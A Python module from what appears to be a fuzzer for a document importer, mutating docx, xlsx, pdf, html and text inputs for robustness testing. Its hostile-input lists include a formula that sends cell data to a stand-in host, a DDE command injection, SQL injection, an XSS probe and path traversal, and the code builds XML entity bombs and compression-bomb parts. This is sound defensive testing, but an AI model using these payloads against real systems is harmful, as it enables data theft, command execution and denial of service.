"""Mutations: byte-level (flips, truncation, splices) and structure-aware (zip parts re-zipped so the
CRC holds, hostile cell values, dimension refs, HTML nesting and entity floods, text line surgery).

Pure Python, no Django: the engine regenerates a crashing input from its number alone (the mutation is
a function of the run's seed and the input's number), so a worker that dies takes nothing with it.
"""

import io
import random
import re
import warnings
import zipfile
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from xml.sax.saxutils import escape

# Strings and numbers an importer must refuse clearly: digits `int()` rejects or accepts unexpectedly,
# numbers past every column's range, dates that do not exist, formulas, control and bidi characters.
HOSTILE_TEXT = [
    "²",
    "³¹",
    "١٢٣",
    "１２３",
    "𝟙𝟚",
    "Ⅻ",
    "½",
    "0x10",
    "1_000",
    "-0",
    "-1",
    "+1",
    "1e400",
    "-1e400",
    "1e-400",
    "NaN",
    "nan",
    "inf",
    "-inf",
    "Infinity",
    "99999999999999999999",
    "-99999999999999999999",
    "18446744073709551616",
    "9" * 400,
    "0.1.2",
    "1,2,3",
    "88,37",
    "1.234.567",
    "31/02/2026",
    "00/00/0000",
    "29/02/2100",
    "1/1/1",
    "32/13/2026",
    "01/01/10000",
    "9999-12-31",
    "0001-01-01",
    "2026-02-30",
    "01/01/2026 25:61",
    "",
    " ",
    "\u00a0",
    "\u200b",
    "\u202e\u202dabc",
    "\ufeff",
    "\ud7ff",
    '=HYPERLINK("http://x/?d="&A2,"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1",
    "'; DROP TABLE org_orgunit; --",
    "<script>alert(1)</script>",
    "../../etc/passwd",
    "a" * 70000,
    "Đ" * 300,
    "Ạ̛̛̛̛̛̛̛̛̛̛̛̛̛̛̛",
    "💥" * 50,
    "tthc, chinh_phu_so, " * 200,
    "nháp",
    "Mạng xã hội",
    "42",
    "42.SNV",
    "L42",
    "42." + "a" * 300,
    "admin",
    "điều phối",
    "x@y",
    "a@" + "b" * 300 + ".vn",
    "PAR INDEX",
]
HOSTILE_NUMBERS = [
    "0",
    "-0",
    "1",
    "-1",
    "0.5",
    "1e308",
    "-1e308",
    "1.7976931348623157e308",
    "4.9e-324",
    "1e20",
    "9223372036854775807",
    "9223372036854775808",
    "-9223372036854775809",
    "2958466",
    "2958465.99999",
    "-693594",
    "60",
    "45000",
    "1e15",
    "NaN",
    "INF",
    "",
    "abc",
    "1,5",
]
_INTERESTING_BYTES = [0x00, 0x01, 0x7F, 0x80, 0xFF, 0x3C, 0x3E, 0x26, 0x22, 0x0A, 0x0D, 0x20]
HUGE_REFS = ["XFD1048576", "A1048576", "XFD1", "ZZZZ1", "A99999999", "XFD1048577", "A0", "AAAAAAAAAA1", "A-1"]
MAX_SIZE = 4 * 2**20
_PAD = bytes(16 * 2**20)  # bigger inputs only test the size limits, which the first byte past them does


@dataclass(frozen=True)
class Seed:
    """A sample file and, for a zip package, its parts (unpacked once, mutated and re-zipped per input)."""

    kind: str  # docx | pdf | txt | html | xlsx
    name: str
    data: bytes
    parts: tuple[tuple[str, bytes], ...] = ()


def unpack(kind: str, name: str, data: bytes) -> Seed:
    parts: tuple[tuple[str, bytes], ...] = ()
    if data.startswith(b"PK\x03\x04"):
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            parts = tuple((info.filename, archive.read(info)) for info in archive.infolist())
    return Seed(kind, name, data, parts)


def _cap(data: bytes) -> bytes:
    return data[:MAX_SIZE]


def _times(unit: bytes, n: int) -> bytes:
    """`unit * n`, never (much) past MAX_SIZE: a 70 KB hostile string times 120,000 is 8 GB to build."""
    return unit * min(n, MAX_SIZE // max(len(unit), 1) + 1)


def _count(rng: random.Random, common: Sequence[int], rare: Sequence[int]) -> int:
    """How many copies: mostly small (cheap inputs, many of them), now and then big enough to hit a limit."""
    return rng.choice(common) if rng.random() < 0.92 else rng.choice(rare)


# Byte level: whatever the format.


def flip(rng: random.Random, data: bytes) -> bytes:
    out = bytearray(data)
    for _ in range(rng.randint(1, 8)):
        if out:
            out[rng.randrange(len(out))] ^= 1 << rng.randrange(8)
    return bytes(out)


def interesting(rng: random.Random, data: bytes) -> bytes:
    out = bytearray(data)
    for _ in range(rng.randint(1, 4)):
        if out:
            out[rng.randrange(len(out))] = rng.choice(_INTERESTING_BYTES)
    return bytes(out)


def truncate(rng: random.Random, data: bytes) -> bytes:
    return data[: rng.randrange(len(data) + 1)]


def cut(rng: random.Random, data: bytes) -> bytes:
    start = rng.randrange(len(data) + 1)
    return data[:start] + data[start + rng.randint(1, 4096) :]


def insert(rng: random.Random, data: bytes) -> bytes:
    at = rng.randrange(len(data) + 1)
    junk = rng.randbytes(rng.randint(1, 512))
    return data[:at] + junk + data[at:]


def repeat_chunk(rng: random.Random, data: bytes) -> bytes:
    start = rng.randrange(len(data) + 1)
    chunk = data[start : start + rng.randint(1, 256)]
    return _cap(data[:start] + _times(chunk, _count(rng, [2, 16, 512], [8192, 30000])) + data[start:])


def splice(rng: random.Random, data: bytes, other: bytes) -> bytes:
    return data[: rng.randrange(len(data) + 1)] + other[rng.randrange(len(other) + 1) :]


BYTE_MUTATIONS: dict[str, Callable[[random.Random, bytes], bytes]] = {
    "flip": flip,
    "interesting": interesting,
    "truncate": truncate,
    "cut": cut,
    "insert": insert,
    "repeat": repeat_chunk,
}


# Structure-aware: XML parts of a package.

_TEXT_NODE = re.compile(rb">([^<]{1,400})<")
_ATTRIBUTE = re.compile(rb'(\s[\w:]+=")([^"]{0,100})(")')
_ELEMENT = re.compile(rb"<(w:p|w:tr|w:tc|w:tbl|w:r|row|c|si)\b[^>]*?(?:/>|>.*?</\1>)", re.S)
_CELL = re.compile(rb"<c\b[^>]*?(?:/>|>.*?</c>)", re.S)
_CELL_REF = re.compile(rb'(<c\b[^>]*?\sr=")([A-Z]+\d+)(")')
_ROW_REF = re.compile(rb'(<row\b[^>]*?\sr=")(\d+)(")')
_DIMENSION = re.compile(rb'<dimension\s+ref="[^"]*"\s*/>')
_SHEET_DATA = re.compile(rb"<sheetData\s*/?>")


def _pick(rng: random.Random, pattern: re.Pattern[bytes], data: bytes) -> re.Match[bytes] | None:
    # A random match without listing them all: start the search at a random offset, wrap once.
    start = rng.randrange(len(data) + 1)
    return pattern.search(data, start) or pattern.search(data)


def _hostile(rng: random.Random) -> bytes:
    text = rng.choice(HOSTILE_TEXT) if rng.random() < 0.7 else rng.choice(HOSTILE_NUMBERS)
    return escape(text).encode("utf-8", "surrogatepass")


def xml_text(rng: random.Random, xml: bytes) -> bytes:
    found = _pick(rng, _TEXT_NODE, xml)
    if found is None:
        return xml
    return xml[: found.start(1)] + _hostile(rng) + xml[found.end(1) :]


def xml_attribute(rng: random.Random, xml: bytes) -> bytes:
    found = _pick(rng, _ATTRIBUTE, xml)
    if found is None:
        return xml
    value = rng.choice([*HOSTILE_NUMBERS, *HUGE_REFS, "-1", "999999999", "", "x" * 5000]).encode()
    return xml[: found.start(2)] + escape(value.decode()).encode() + xml[found.end(2) :]


def xml_duplicate(rng: random.Random, xml: bytes) -> bytes:
    found = _pick(rng, _ELEMENT, xml)
    if found is None:
        return xml
    copies = _times(found.group(0), _count(rng, [2, 50, 300], [2000, 6000]))
    return _cap(xml[: found.end()] + copies + xml[found.end() :])


def xml_delete(rng: random.Random, xml: bytes) -> bytes:
    found = _pick(rng, _ELEMENT, xml)
    return xml if found is None else xml[: found.start()] + xml[found.end() :]


def xml_nest(rng: random.Random, xml: bytes) -> bytes:
    found = _pick(rng, _ELEMENT, xml)
    if found is None:
        return xml
    tag = found.group(1)
    depth = _count(rng, [20, 300], [5000, 20000])
    opening, closing = b"<" + tag + b">", b"</" + tag + b">"
    nested = _times(opening, depth) + found.group(0) + _times(closing, depth)
    return _cap(xml[: found.start()] + nested + xml[found.end() :])


def xml_entity_bomb(rng: random.Random, xml: bytes) -> bytes:
    entities = (
        b'<!ENTITY a "'
        + b"A" * 64
        + b'">'
        + b"".join(
            b"<!ENTITY " + bytes([98 + i]) + b' "' + (b"&" + bytes([97 + i]) + b";") * 16 + b'">' for i in range(8)
        )
    )
    doctype = b"<!DOCTYPE x [" + entities + b"]>"
    declaration = xml.find(b"?>")
    at = declaration + 2 if xml.startswith(b"<?xml") and declaration > 0 else 0
    found = _pick(rng, _TEXT_NODE, xml)
    if found is not None:
        xml = xml[: found.start(1)] + b"&i;" + xml[found.end(1) :]
    return xml[:at] + doctype + xml[at:]


def xml_bytes(rng: random.Random, xml: bytes) -> bytes:
    return rng.choice([flip, interesting, truncate, cut])(rng, xml)


XML_MUTATIONS: dict[str, Callable[[random.Random, bytes], bytes]] = {
    "xml-text": xml_text,
    "xml-attribute": xml_attribute,
    "xml-duplicate": xml_duplicate,
    "xml-delete": xml_delete,
    "xml-nest": xml_nest,
    "xml-entities": xml_entity_bomb,
    "xml-bytes": xml_bytes,
}


# Spreadsheet cells: hostile values typed as the reader will see them, and refs far out.


def cell_value(rng: random.Random, xml: bytes) -> bytes:
    found = _pick(rng, _CELL, xml)
    if found is None:
        return xml
    ref = re.search(rb'\sr="([A-Z]+\d+)"', found.group(0))
    where = b' r="' + ref.group(1) + b'"' if ref else b""
    kind = rng.randrange(6)
    if kind == 0:
        cell = b'<c%s t="inlineStr"><is><t>%s</t></is></c>' % (where, _hostile(rng))
    elif kind == 1:
        cell = b"<c%s><v>%s</v></c>" % (where, rng.choice(HOSTILE_NUMBERS).encode())
    elif kind == 2:  # a number with a date style: the reader turns it into a date
        cell = b'<c%s s="%d"><v>%s</v></c>' % (where, rng.randrange(4), rng.choice(HOSTILE_NUMBERS).encode())
    elif kind == 3:
        cell = b'<c%s t="s"><v>%s</v></c>' % (where, rng.choice([b"-1", b"999999", b"1e3", b"x"]))
    elif kind == 4:
        cell = b'<c%s t="%s"><v>%s</v></c>' % (
            where,
            rng.choice([b"b", b"e", b"d", b"str", b"n", b"zz"]),
            rng.choice([b"2", b"#DIV/0!", b"9999-99-99", b"2026-02-30T25:00:00", b"", b"TRUE"]),
        )
    else:
        cell = b'<c%s t="str"><f>1/0</f><v>%s</v></c>' % (where, _hostile(rng))
    return xml[: found.start()] + cell + xml[found.end() :]


def cell_ref(rng: random.Random, xml: bytes) -> bytes:
    pattern = _CELL_REF if rng.random() < 0.6 else _ROW_REF
    found = _pick(rng, pattern, xml)
    if found is None:
        return xml
    if pattern is _CELL_REF:
        value = rng.choice(HUGE_REFS).encode()
    else:
        value = rng.choice([b"1048576", b"0", b"-1", b"4294967296", b"99999999999"])
    return xml[: found.start(2)] + value + xml[found.end(2) :]


def dimension(rng: random.Random, xml: bytes) -> bytes:
    ref = b'<dimension ref="A1:' + rng.choice(HUGE_REFS).encode() + b'"/>'
    if _DIMENSION.search(xml):
        return _DIMENSION.sub(ref, xml, count=1)
    found = _SHEET_DATA.search(xml)
    return xml if found is None else xml[: found.start()] + ref + xml[found.start() :]


def far_cell(rng: random.Random, xml: bytes) -> bytes:
    """The 1.5 KB workbook of the issue: one more cell at the far corner of the sheet."""
    ref = rng.choice(HUGE_REFS[:4]).encode()
    row = re.match(rb"[A-Z]+(\d+)", ref)
    number = row.group(1) if row else b"1048576"
    extra = b'<row r="%s"><c r="%s" t="inlineStr"><is><t>x</t></is></c></row>' % (number, ref)
    return xml.replace(b"</sheetData>", extra + b"</sheetData>", 1)


def many_rows(rng: random.Random, xml: bytes) -> bytes:
    rows = re.findall(rb"<row\b.*?</row>", xml, re.S)
    if len(rows) < 2:
        return xml
    body = rows[-1]
    count = _count(rng, [20, 300], [5001, 20000])
    copies = b"".join(re.sub(rb'\sr="(\d+)"', b"", body) for _ in range(min(count, MAX_SIZE // max(len(body), 1))))
    return _cap(xml.replace(b"</sheetData>", copies + b"</sheetData>", 1))


SHEET_MUTATIONS: dict[str, Callable[[random.Random, bytes], bytes]] = {
    "cell-value": cell_value,
    "cell-ref": cell_ref,
    "dimension": dimension,
    "far-cell": far_cell,
    "many-rows": many_rows,
}


def rezip(rng: random.Random, seed: Seed) -> tuple[str, bytes]:
    """Mutate one XML part (or the package's list of parts) and write a valid zip around it."""
    parts = list(seed.parts)
    names = [n for n, _ in parts]
    if seed.kind == "xlsx":
        sheet = [i for i, n in enumerate(names) if n.startswith("xl/worksheets/")]
        strings = [i for i, n in enumerate(names) if n == "xl/sharedStrings.xml"]
        preferred = sheet * 6 + strings * 3
    else:
        preferred = [i for i, n in enumerate(names) if n == "word/document.xml"] * 6
    xml_parts = [i for i, n in enumerate(names) if n.endswith((".xml", ".rels"))]
    index = rng.choice(preferred + xml_parts) if (preferred or xml_parts) else 0
    name, content = parts[index]
    roll = rng.random()
    if seed.kind == "xlsx" and name.startswith("xl/worksheets/") and roll < 0.6:
        how = rng.choice(list(SHEET_MUTATIONS))
        content = SHEET_MUTATIONS[how](rng, content)
        for _ in range(rng.choice([0, 0, 1, 3])):  # several hostile cells in one workbook
            content = cell_value(rng, content)
    elif roll < 0.95:
        how = rng.choice(list(XML_MUTATIONS))
        content = XML_MUTATIONS[how](rng, content)
    else:
        how = rng.choice(["drop-part", "duplicate-part", "bomb-part"])
        if how == "drop-part":
            del parts[index]
        elif how == "duplicate-part":
            parts.append((name, content))
        else:  # highly compressible: the uncompressed-size checks must see it
            parts.append(("xl/media/pad.bin" if seed.kind == "xlsx" else "word/media/pad.bin", _PAD))
    if how not in {"drop-part", "duplicate-part", "bomb-part"}:
        parts[index] = (name, content)
    warnings.filterwarnings("ignore", "Duplicate name", UserWarning)  # a part twice is one of the mutations
    buffer = io.BytesIO()
    method = zipfile.ZIP_STORED if rng.random() < 0.5 else zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(buffer, "w", method, compresslevel=1) as archive:
        for part_name, part in parts:
            # A fixed date: the same run seed and number give the same bytes, so a saved crash replays.
            info = zipfile.ZipInfo(part_name, date_time=(2026, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED if len(part) > 2**20 else method
            archive.writestr(info, part)
    return f"{how}:{name}", buffer.getvalue()


# Structure-aware: HTML and text.

_HTML_TAGS = [b"div", b"p", b"table", b"tr", b"td", b"b", b"span", b"article", b"li", b"ul"]


def html_bomb(rng: random.Random, data: bytes) -> tuple[str, bytes]:
    at = rng.randrange(len(data) + 1)
    kind = rng.randrange(9)
    n = _count(rng, [30, 1000], [20_000, 120_000])
    tag = rng.choice(_HTML_TAGS)
    if kind == 0:
        how, piece = "nest", _times(b"<" + tag + b">", n) + b"x" + _times(b"</" + tag + b">", n)
    elif kind == 1:
        how, piece = "nest-unclosed", _times(b"<" + tag + b' class="content">', n)
    elif kind == 2:
        how, piece = "elements", _times(b"<p>" + _hostile(rng) + b"</p>", n)
    elif kind == 3:
        entity = rng.choice([b"&amp;", b"&#x1F4A5;", b"&#99999999999;", b"&nbsp", b"&#0;", b"&"])
        how, piece = "entities", _times(entity, n)
    elif kind == 4:
        how, piece = "end-tags", _times(b"</" + tag + b">", n)
    elif kind == 5:
        rows = _times(b"<tr><td>" + _hostile(rng) + b"</td>", n)
        how, piece = "table", b"<table>" + rows + b"</table>"
    elif kind == 6:
        how, piece = "nested-tables", _times(b"<table><tr><td>", n) + b"x"
    elif kind == 7:
        how, piece = "open-comment", rng.choice([b"<!--", b"<script>", b"<style>", b"<![CDATA[", b"<title>"])
    else:
        how, piece = "attributes", b"<div " + _times(b'class="content noidung" ', n) + b">"
    return f"html-{how}", _cap(data[:at] + piece + data[at:])


VOCABULARY = [
    "KẾ HOẠCH",
    "BÁO CÁO",
    "Số: 18/KH-UBND",
    "ngày 28 tháng 01 năm 2022",
    "Căn cứ Nghị quyết số 76/NQ-CP ngày 15/7/2021 của Chính phủ;",
    "Thực hiện",
    "Kính gửi:",
    "Nơi nhận:",
    "- Lưu: VT.",
    "TM. ỦY BAN NHÂN DÂN",
    "KT. CHỦ TỊCH",
    "ỦY BAN NHÂN DÂN",
    "I. MỤC ĐÍCH, YÊU CẦU",
    "1.",
    "a)",
    "./.",
    "STT | Nhiệm vụ | Cơ quan chủ trì | Thời gian",
    "Phụ lục",
    "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
    "Độc lập - Tự do - Hạnh phúc",
]


def text_lines(rng: random.Random, data: bytes) -> tuple[str, bytes]:
    lines = data.split(b"\n")
    kind = rng.randrange(7)
    at = rng.randrange(len(lines) + 1)
    if kind == 0:
        how = "vocabulary"
        for _ in range(rng.randint(1, 40)):
            lines.insert(rng.randrange(len(lines) + 1), rng.choice(VOCABULARY).encode())
    elif kind == 1:
        how = "repeat-line"
        line = lines[rng.randrange(len(lines))] if lines else b"x"
        lines[at:at] = [line] * min(_count(rng, [10, 300], [60_000, 250_000]), MAX_SIZE // (len(line) + 1) + 1)
    elif kind == 2:
        how = "long-line"
        lines.insert(
            at,
            rng.choice([b"a", b"1.", b"/", b" ", b"C\xc4\x83n c\xe1\xbb\xa9 ", b"-"])
            * _count(rng, [1000, 20_000], [300_000]),
        )
    elif kind == 3:
        how = "shuffle"
        rng.shuffle(lines)
    elif kind == 4:
        how = "hostile-line"
        lines.insert(at, _hostile(rng))
    elif kind == 5:
        how = "columns"
        lines = [line + b" " * rng.choice([5, 40]) + line for line in lines]
    else:
        how = "encoding"
        text = data.decode("utf-8", "replace")
        encoding = rng.choice(["utf-16", "cp1258", "latin-1", "utf-8-sig"])
        return f"text-{how}-{encoding}", _cap(text.encode(encoding, "replace"))
    return f"text-{how}", _cap(b"\n".join(lines))


def pdf_structure(rng: random.Random, data: bytes) -> tuple[str, bytes]:
    kind = rng.randrange(5)
    if kind == 0:
        how = "count"
        value = rng.choice([b"0", b"-1", b"999999999", b"1e9"])
        data = re.sub(rb"/Count \d+", b"/Count " + value, data, count=1)
    elif kind == 1:
        how = "length"
        value = rng.choice([b"0", b"-5", b"999999999"])
        found = _pick(rng, re.compile(rb"/Length \d+"), data)
        if found:
            data = data[: found.start()] + b"/Length " + value + data[found.end() :]
    elif kind == 2:
        how = "deep-array"
        at = rng.randrange(len(data) + 1)
        n = _count(rng, [100, 3000], [100_000])
        data = data[:at] + _times(rng.choice([b"[", b"<<", b"(", b"<<<"]), n) + data[at:]
    elif kind == 3:
        how = "self-reference"
        data = re.sub(rb"/Kids \[", b"/Kids [1 0 R 2 0 R ", data, count=1)
    else:
        how = "xref"
        at = data.rfind(b"startxref")
        if at > 0:
            data = data[: at + 10] + str(rng.randrange(len(data) * 2)).encode() + b"\n%%EOF\n"
    return f"pdf-{how}", _cap(data)


def mutate(rng: random.Random, seed: Seed, others: Sequence[Seed]) -> tuple[str, bytes]:
    """One mutated input from a seed: returns (what was done, bytes)."""
    roll = rng.random()
    if roll < 0.45:
        how = rng.choice(list(BYTE_MUTATIONS))
        data = BYTE_MUTATIONS[how](rng, seed.data)
        if rng.random() < 0.3:  # a second byte mutation on top
            data = BYTE_MUTATIONS[rng.choice(list(BYTE_MUTATIONS))](rng, data)
        return how, data
    if roll < 0.5:
        other = rng.choice(others)
        return f"splice:{other.name}", splice(rng, seed.data, other.data)
    if seed.parts:
        return rezip(rng, seed)
    if seed.kind == "html":
        return html_bomb(rng, seed.data) if rng.random() < 0.6 else text_lines(rng, seed.data)
    if seed.kind == "txt":
        return text_lines(rng, seed.data)
    if seed.kind == "pdf":
        return pdf_structure(rng, seed.data)
    return "flip", flip(rng, seed.data)
